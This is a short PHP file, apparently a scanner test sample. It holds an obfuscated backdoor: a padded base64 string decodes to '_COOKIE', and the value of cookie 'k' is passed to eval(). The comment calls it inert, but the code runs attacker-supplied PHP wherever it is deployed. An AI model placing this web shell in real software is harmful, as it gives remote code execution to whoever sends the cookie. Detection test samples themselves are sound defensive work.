<?php
// Inert test sample (obfuscated): base64_decode skips the underscores and dashes padding the
// literal, so it yields the superglobal's name; the variable variable then reads the cookie.
$g = base64_decode('X0N__PT0t-JRQ==__');
$c = ${$g}['k'];
eval($c);
